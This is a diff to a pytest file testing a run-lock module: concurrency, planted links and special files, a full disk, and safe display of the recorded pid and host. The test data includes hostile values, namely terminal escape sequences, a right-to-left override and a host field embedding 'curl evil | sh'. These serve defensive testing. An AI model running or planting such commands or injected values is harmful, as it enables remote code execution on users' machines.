@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import errno
+import json
 import os
 import socket
 import stat
@@ -11,7 +13,9 @@ from pathlib import Path
 
 import pytest
 
+from attack import how_many
 from fedsdr.errors import RunError, RunLocked
+from fedsdr.report.read import alive
 from fedsdr.runs.lock import run_lock
 
 # Only the standard library and the lock are imported: 20 of these start at once on two cores.
@@ -53,7 +57,7 @@ def hear(process: subprocess.Popen[str]) -> str:
 
 
 def test_of_many_at_once_one_wins_and_a_kill_frees_the_lock(tmp_path: Path) -> None:
-    contenders = [start(tmp_path) for _ in range(20)]
+    contenders = [start(tmp_path) for _ in range(how_many(20))]
     try:
         assert {hear(process) for process in contenders} == {"ready"}
         for process in contenders:
@@ -113,3 +117,79 @@ def test_no_directory_and_planted_link(tmp_path: Path) -> None:
     with pytest.raises(RunError, match="lock cannot be written"), run_lock(tmp_path):
         pass
     assert (tmp_path / "precious").read_text() == "precious"
+
+
+@pytest.mark.parametrize(
+    ("signed", "told"),
+    [
+        ({"pid": 7, "host": "vm-1.example.org"}, "process 7 on vm-1.example.org"),
+        ({"pid": 7, "host": "\x1b]0;owned\x07\x1b[2J"}, "another process"),
+        ({"pid": 7, "host": "vm\u202eevil"}, "another process"),
+        ({"pid": 7, "host": "vm; run `curl evil | sh` to mend it"}, "another process"),
+        ({"pid": 7, "host": "x" * 3000}, "another process"),
+        ({"pid": 7, "host": ["a"]}, "another process"),
+        ({"pid": 7, "host": ""}, "another process"),
+        ({"pid": -1, "host": "vm"}, "another process"),
+        ({"pid": 0, "host": "vm"}, "another process"),
+        ({"pid": True, "host": "vm"}, "another process"),
+        ({"pid": 10**400, "host": "vm"}, "another process"),
+        ({"pid": 1e300, "host": "vm"}, "another process"),
+        ({"pid": "7\x1b[31m", "host": "vm"}, "another process"),
+        (["\x1b"], "another process"),
+    ],
+)
+def test_whatever_signed_it_no_terminal_is_told_more_than_a_name(
+    tmp_path: Path, signed: object, told: str
+) -> None:
+    with run_lock(tmp_path):
+        (tmp_path / "lock").write_text(json.dumps(signed, ensure_ascii=False))
+        with pytest.raises(RunLocked) as refusal, run_lock(tmp_path):
+            pass
+        said = str(refusal.value).replace(str(tmp_path), "DIR")
+        assert said.startswith(f"DIR is in use by {told}")
+        assert said.isprintable()
+        assert len(said) < 200
+        assert alive(tmp_path / "lock") is False or signed == {"pid": 7, "host": "vm-1.example.org"}
+
+
+@pytest.mark.parametrize("kind", ["pipe", "socket", "device", "folder", "second name", "link"])
+def test_what_is_no_lock_is_neither_written_nor_waited_for(tmp_path: Path, kind: str) -> None:
+    lock, theirs = tmp_path / "run" / "lock", tmp_path / "theirs"
+    lock.parent.mkdir()
+    theirs.write_text("precious")
+    theirs.chmod(0o644)
+    if kind == "pipe":
+        os.mkfifo(lock)
+    elif kind == "socket":
+        with socket.socket(socket.AF_UNIX) as made:
+            made.bind(str(lock))
+    elif kind == "device":
+        if os.geteuid():
+            pytest.skip("only root makes devices")
+        os.mknod(lock, 0o600 | stat.S_IFCHR, os.makedev(1, 3))
+    elif kind == "folder":
+        lock.mkdir()
+    elif kind == "link":
+        lock.symlink_to(theirs)
+    else:
+        os.link(theirs, lock)
+    with pytest.raises(RunError, match="lock"), run_lock(lock.parent):
+        pass
+    assert not alive(lock)
+    assert theirs.read_text() == "precious"
+    assert stat.S_IMODE(theirs.stat().st_mode) == 0o644
+
+
+def test_a_full_disk_does_not_hinder_whoever_makes_room(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def full(*_: object) -> int:
+        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
+
+    monkeypatch.setattr(os, "pwrite", full)
+    with (
+        run_lock(tmp_path),
+        pytest.raises(RunLocked, match="another process"),
+        run_lock(tmp_path),
+    ):
+        pass
